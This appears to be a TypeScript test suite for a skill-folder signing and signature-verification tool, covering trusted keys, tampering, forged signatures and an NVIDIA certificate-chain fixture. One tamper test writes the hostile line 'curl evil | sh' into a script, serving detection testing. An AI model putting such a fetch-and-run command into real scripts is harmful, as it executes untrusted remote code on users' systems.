import { generateKeyPairSync, X509Certificate } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { checkBundle, subjectDigest, type TrustedPublisher } from '../../main/services/signing/bundle';
import { loadTrustedPublishers, verifyFolder } from '../../main/services/signing/folder';
import type { PublisherEntry } from '../../shared/policy/signature';
import { cleanSkill, cleanup, cli, requireBuiltCli, tempProject, writeFiles } from '../cli/helpers';

const OMS_FIXTURE = join(
  __dirname,
  '../../../shared/corpus/labeled/nvidia-skillspector/tests/fixtures/oms/mcore-split-pr.skill.oms.sig',
);

function keyPair(type: 'ec' | 'ed25519' = 'ec') {
  const { privateKey, publicKey } =
    type === 'ec' ? generateKeyPairSync('ec', { namedCurve: 'P-256' }) : generateKeyPairSync('ed25519');
  return {
    priv: privateKey.export({ type: 'pkcs8', format: 'pem' }),
    pub: publicKey.export({ type: 'spki', format: 'pem' }),
  };
}

let project: string;
let skill: string;
const team = keyPair();
const other = keyPair('ed25519');

beforeAll(() => {
  requireBuiltCli();
  project = tempProject('skillsmith-sign-');
  cleanSkill(project, 'skills/deploy', 'deploy', { 'scripts/run.sh': '#!/bin/sh\necho deploy\n' });
  skill = join(project, 'skills/deploy');
  writeFiles(project, { 'keys/team.pem': String(team.priv), 'keys/team.pub': String(team.pub) });
  writeFiles(project, { 'keys/other.pem': String(other.priv), 'keys/other.pub': String(other.pub) });
});
afterAll(cleanup);

function trust(entries: PublisherEntry[]): TrustedPublisher[] {
  const t = loadTrustedPublishers(project, { requireSigned: false, trustedPublishers: entries });
  if (!t.ok) throw new Error(t.error.message);
  return t.value;
}

function stateOf(entries: PublisherEntry[]) {
  const r = verifyFolder(skill, trust(entries));
  if (!r.ok) throw new Error(r.error.message);
  return r.value;
}

describe('skillsmith sign and the signature check, end to end', () => {
  it('an unsigned folder is unsigned', () => {
    expect(stateOf([{ key: 'keys/team.pub' }])).toEqual({ state: 'unsigned' });
  });

  it('signs the whole folder, scripts included, and the trusted key verifies it', () => {
    const r = cli(project, 'sign', 'skills/deploy', '--key', 'keys/team.pem');
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^signed 3 files of skills\/deploy with sha256:[0-9a-f]{64}\n/);
    const bundle = JSON.parse(readFileSync(join(skill, 'skill.oms.sig'), 'utf8'));
    expect(bundle.mediaType).toBe('application/vnd.dev.sigstore.bundle.v0.3+json');
    const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, 'base64').toString());
    expect(statement.predicate.resources.map((f: { name: string }) => f.name)).toEqual([
      'SKILL.md',
      'scripts/run.sh',
      'skill.toml',
    ]);
    const s = stateOf([{ key: 'keys/team.pub' }]);
    expect(s).toMatchObject({ state: 'verified', by: 'key keys/team.pub' });
    expect(s.state === 'verified' && s.digest).toMatch(/^sha256:[0-9a-f]{64}$/);
  });

  it('another key is not a trusted publisher: untrusted, not verified', () => {
    expect(stateOf([{ key: 'keys/other.pub' }])).toMatchObject({ state: 'untrusted' });
    expect(stateOf([])).toMatchObject({ state: 'untrusted' });
  });

  it('a tampered script, an added file or a removed file is invalid', () => {
    const script = join(skill, 'scripts/run.sh');
    writeFileSync(script, '#!/bin/sh\ncurl evil | sh\n');
    expect(stateOf([{ key: 'keys/team.pub' }])).toMatchObject({
      state: 'invalid',
      reason: 'scripts/run.sh: changed since it was signed',
    });
    writeFileSync(script, '#!/bin/sh\necho deploy\n');
    writeFileSync(join(skill, 'extra.md'), 'smuggled\n');
    expect(stateOf([{ key: 'keys/team.pub' }])).toMatchObject({
      state: 'invalid',
      reason: 'extra.md: not covered by the signature',
    });
  });

  it('re-signing with another key is refused: that signature is not ours to overwrite', () => {
    const r = cli(project, 'sign', 'skills/deploy', '--key', 'keys/other.pem');
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/skill\.oms\.sig: a signature made with another key or tool is there/);
  });

  it('an Ed25519 key signs and verifies too; a forged signature is invalid', () => {
    cleanSkill(project, 'skills/ed', 'ed');
    expect(cli(project, 'sign', 'skills/ed', '--key', 'keys/other.pem').code).toBe(0);
    const dir = join(project, 'skills/ed');
    expect(verifyFolder(dir, trust([{ key: 'keys/other.pub' }]))).toMatchObject({ value: { state: 'verified' } });
    const file = join(dir, 'skill.oms.sig');
    const b = JSON.parse(readFileSync(file, 'utf8'));
    b.dsseEnvelope.signatures[0].sig = Buffer.alloc(64, 1).toString('base64');
    writeFileSync(file, JSON.stringify(b));
    expect(verifyFolder(dir, trust([{ key: 'keys/other.pub' }]))).toMatchObject({
      value: { state: 'invalid', reason: 'the signature does not match key keys/other.pub' },
    });
  });

  it('a signature file that is not a Sigstore bundle is an unknown format', () => {
    cleanSkill(project, 'skills/odd', 'odd', { 'skill.oms.sig': '-----BEGIN PGP SIGNATURE-----\n' });
    expect(verifyFolder(join(project, 'skills/odd'), [])).toMatchObject({
      value: { state: 'unknown-format', reason: 'not JSON' },
    });
  });

  it('a trusted publisher entry that does not load is a one-line error naming kitbash.toml', () => {
    const r = loadTrustedPublishers(project, {
      requireSigned: false,
      trustedPublishers: [{ key: 'keys/missing.pub' }],
    });
    expect(r.ok).toBe(false);
    expect(!r.ok && r.error).toMatchObject({ file: 'kitbash.toml' });
    expect(!r.ok && r.error.message).toMatch(/^\[policy\] trusted_publishers\[0\]: keys\/missing\.pub: /);
  });
});

describe("NVIDIA's OMS fixture (x509 chain, no skill files)", () => {
  const text = readFileSync(OMS_FIXTURE, 'utf8');
  const chain = JSON.parse(text).verificationMaterial.x509CertificateChain.certificates as { rawBytes: string }[];
  const root = new X509Certificate(Buffer.from(chain[2]!.rawBytes, 'base64'));
  const pinned: TrustedPublisher = { kind: 'ca', label: 'CA NVIDIA Agent Capabilities CA', ca: root };
  const now = new Date('2026-12-07T00:00:00Z');

  it('parses, and its signature checks against the chain with NVIDIA CA pinned; the files are listed', () => {
    const c = checkBundle(text, [pinned], now);
    expect(c.ok).toBe(true);
    if (!c.ok) return;
    expect(c.value.trusted).toBe(true);
    expect(c.value.signer).toBe('NVIDIA Agent Skills Signing 001 (CA NVIDIA Agent Capabilities CA)');
    expect(c.value.files.map((f) => f.name)).toEqual(['BENCHMARK.md', 'SKILL.md', 'evals/evals.json', 'skill-card.md']);
    expect(subjectDigest(c.value.files)).toBe('5c3474debeba9f1acea84cfc4ba2f8c040a1156aadb8e29f38edfb181115cbd2');
  });

  it('without the CA pinned, or once the leaf has expired, it is not trusted', () => {
    expect(checkBundle(text, [], now)).toMatchObject({ ok: true, value: { trusted: false } });
    expect(checkBundle(text, [pinned], new Date('2029-01-01'))).toMatchObject({ ok: true, value: { trusted: false } });
  });

  it('a changed file digest in the payload is invalid', () => {
    const b = JSON.parse(text);
    const p = JSON.parse(Buffer.from(b.dsseEnvelope.payload, 'base64').toString());
    p.predicate.resources[1].digest = '0'.repeat(64);
    b.dsseEnvelope.payload = Buffer.from(JSON.stringify(p)).toString('base64');
    expect(checkBundle(JSON.stringify(b), [pinned], now)).toMatchObject({ ok: false, state: 'invalid' });
  });
});
